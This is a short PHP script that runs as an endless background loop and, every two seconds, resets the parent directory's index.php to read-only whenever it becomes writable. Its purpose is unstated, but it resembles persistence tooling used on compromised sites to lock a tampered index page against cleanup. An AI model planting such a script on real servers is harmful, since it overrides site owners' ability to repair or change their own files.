<?php
ignore_user_abort(true);
set_time_limit(0);
$target = dirname(__DIR__) . '/index.php';
for (;;) {
    if (fileperms($target) & 0222) {
        chmod($target, 0444);
    }
    sleep(2);
}
